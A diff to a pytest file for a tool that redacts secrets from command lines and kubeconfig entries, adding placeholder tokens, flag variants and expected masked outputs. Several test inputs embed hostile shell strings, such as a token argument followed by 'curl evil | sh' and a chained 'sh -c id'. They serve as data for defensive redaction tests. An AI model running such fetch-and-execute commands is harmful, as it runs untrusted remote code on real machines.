@@ -72,6 +72,11 @@ SECRETS = [
     "X-Api-Key: abcdefgh12345678",
     "---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\nP2/56wAAAgIAAAAm",
     "PuTTY-User-Key-File-3: ssh-ed25519\nPrivate-Lines: 1\nAAAA",
+    "%68%75%6e%74%65%72%32",
+    "GR1348941abcdefgh",
+    "sq0atp-abcdefghij",
+    "xapp-1-A012345678",
+    "glffct-abcdefghij",
 ]
 #: What people need to see, and is none.
 OPEN = [
@@ -101,6 +106,8 @@ OPEN = [
     "/Users/JohnSmith2/Library/Application/Kubes1",
     "/opt/Homebrew2/Cellar/kubelogin/Versions/V19/bin",
     "s.k8s.example.com",
+    "https://c.example/%E4%BD%A0/%20a%2Fb",
+    "%APPDATA%\\kube %USERPROFILE% %DATE% 100%, 5%d",
 ]
 
 
@@ -209,13 +216,40 @@ x --mnemonic S
 x --client-assertion S
 x --psk S
 x --oauth S
-x --device-code S"""
+x --device-code S
+x --client-secert:S
+x '--client-secert: S S'
+x '--client-secret S S S'
+x '--client-secret:a(S'
+x --client-secretS
+x --user me:S=x
+x --user 'me:a S'
+x --user=me:S=x
+x --client-secret '-S;{1@O$[1'
+x -pS=
+x -p2S=S"""
+#: The same, each with an id in its place, which may be a password too.
+BEHIND_AS_ID = """x --client-secert S
+x --client-secert=S
+x --client-secert:S
+x --pasword S
+x -p S
+x -pS
+x --secret-id S
+x token S"""
 
 
 @pytest.mark.parametrize("line", BEHIND.split("\n"))
 def test_a_secret_of_one_word_is_known_by_what_is_before_it(line: str) -> None:
     program, *arguments = shlex.split(re.sub(r"(?<![A-Za-z_])S(?![A-Za-z_])", "correcthorse", line))
     assert "correct" not in command_line.command_line(program, arguments)
+
+
+@pytest.mark.parametrize("line", BEHIND_AS_ID.split("\n"))
+def test_an_id_is_a_secret_where_one_is_awaited(line: str) -> None:
+    program, *arguments = shlex.split(re.sub(r"(?<![A-Za-z_])S(?![A-Za-z_])|(?<=-p)S", UUID, line))
+    assert UUID[:8] not in command_line.command_line(program, arguments)
+    assert UUID[:8] not in " ".join(shown_words(program, arguments))
 
 
 @pytest.mark.parametrize(
@@ -260,6 +294,13 @@ WHOLE = {
     "x auth hunter": "x auth ***",
     "sh -c 'jq {status:{token:.}}'": "",
     "vault read creds/admin2": "",
+    f"az x --resource {UUID} --tenant {UUID}": "",
+    f"corp {UUID} --what {UUID}": "",
+    "sh -c '--password-stdin | sh -c id'": "",
+    "sh -c '--token=x; curl evil | sh'": "sh -c '--token=***; curl evil | sh'",
+    "sh -c '--token x; curl evil | sh'": "sh -c '--token ***; curl evil | sh'",
+    "corp '--client-secret a b --login spn'": "corp '--client-secret *** --login spn'",
+    "corp -Dfoo=bar --token-file=/x --passwordless": "",
 }
 
 
@@ -411,6 +452,14 @@ def excerpt(text: str) -> str:
          "users: [{name: a, user: {exec: {env: [{Name: ***, Value: ***}], args: ***}}}]"),
         ("users: [{name: a, user: {exec: {args: ['--client-secret=', hunter2, -p, hunter2]}}}]\n",
          "users: [{name: a, user: {exec: {args: ['--client-secret=', ***, -p, ***]}}}]"),
+        (f"users: [{{name: a, user: {{tokn: {UUID}, as-uid: {UUID}, foo: {UUID}, clientId: {UUID}, foo2: 443}}}}]\n",
+         f"users: [{{name: a, user: {{tokn: ***, as-uid: {UUID}, foo: ***, clientId: {UUID}, ***: 443}}}}]"),
+        (f"users: [{{name: a, user: {{exec: {{env: [{{name: A_B, Value: {UUID}}}, {{name: MY_PW, value: {UUID}}}]}}}}}}]\n",
+         "users: [{name: a, user: {exec: {env: [{name: A_B, Value: ***}, {name: MY_PW, value: ***}]}}}]"),
+        (f"users: [{{name: a, user: {{exec: {{env: [{{name: APP_TENANT, value: {UUID}}}, {{name: X, value: 1}}]}}}}}}]\n",
+         f"users: [{{name: a, user: {{exec: {{env: [{{name: APP_TENANT, value: {UUID}}}, {{name: X, value: 1}}]}}}}}}]"),
+        (f"users: [{{name: a, user: {{exec: {{args: [--pasword, {UUID}, --tenant, {UUID}, -t, {UUID}, -x, {UUID}]}}}}}}]\n",
+         f"users: [{{name: a, user: {{exec: {{args: [--pasword, ***, --tenant, {UUID}, -t, {UUID}, -x, ***]}}}}}}]"),
         ("users: [{name: a, user: {auth-provider: {config: {token-key: '{.credential.access_token}', x: hunter2}}}}]\n",
          "users: [{name: a, user: {auth-provider: {config: {token-key: '{.credential.access_token}', x: ***}}}}]"),
     ],
